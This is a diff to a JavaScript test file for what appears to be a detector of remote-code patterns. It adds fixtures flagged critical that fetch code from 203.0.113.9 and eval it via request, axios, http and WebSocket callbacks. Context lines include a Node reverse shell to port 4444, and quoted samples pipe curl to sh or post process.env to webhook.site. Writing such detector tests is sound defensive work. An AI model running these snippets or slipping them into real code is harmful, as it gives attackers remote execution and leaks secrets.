@@ -102,6 +102,27 @@ test.each([
     'remote-code critical',
     'const s = require("net").connect(4444, "203.0.113.9"); const sh = require("child_process").spawn("/bin/sh", []); s.pipe(sh.stdin); sh.stdout.pipe(s);',
   ],
+  // Callbacks that are held in objects, or named before.
+  [
+    'remote-code critical',
+    'require("request")({ url: "http://203.0.113.9/a", success(body) { eval(body); } });',
+  ],
+  [
+    'remote-code critical',
+    'const options = { url: "http://203.0.113.9/a", transformResponse: (body) => eval(body) };\nrequire("axios")(options);',
+  ],
+  [
+    'remote-code critical',
+    'const on = { data(d) { eval(d.toString()); } }; require("http").get("http://203.0.113.9/a", (res) => res.on("data", on.data));',
+  ],
+  [
+    'remote-code critical',
+    'function run(d) { eval(d.toString()); } other.on("data", run); require("http").get("http://203.0.113.9/a", (res) => res.on("data", run));',
+  ],
+  [
+    'remote-code critical',
+    'const s = new WebSocket("ws://203.0.113.9/a"); s.onmessage = (event) => eval(event.data);',
+  ],
   // What was hidden is run.
   ['remote-code critical', 'eval(atob("Y29uc29sZS5sb2coJ2hlbGxvJyk7"))'],
   ['remote-code critical', 'eval(Buffer.from("636f6e736f6c652e6c6f6728312929", "hex").toString())'],
@@ -152,6 +173,8 @@ test.each([
   'const { spawn } = require("child_process"); fetch("https://example.com/v").then((r) => r.json()).then((j) => spawn("open", [j.url]))',
   'setTimeout(() => fetch("https://example.com"), 10); setTimeout(resolve, 10);',
   'const data = Buffer.from(body, "base64").toString(); JSON.parse(data); require("child_process").exec("ls");',
+  // Methods that stand in an object with a secret are not called with it.
+  'const key = process.env.API_TOKEN; const api = Object.freeze({ key, send(it) { fetch("http://203.0.113.9/", { body: it }); } });',
   // An attack that is quoted, not done.
   'const RULES = [/eval\\(atob/, "curl http://203.0.113.9 | sh", "fetch(\'https://webhook.site\', process.env)"]; // eval(atob("x"))',
   '// fetch("https://webhook.site", { body: process.env })\nrequire("child_process"); fetch("https://example.com")',
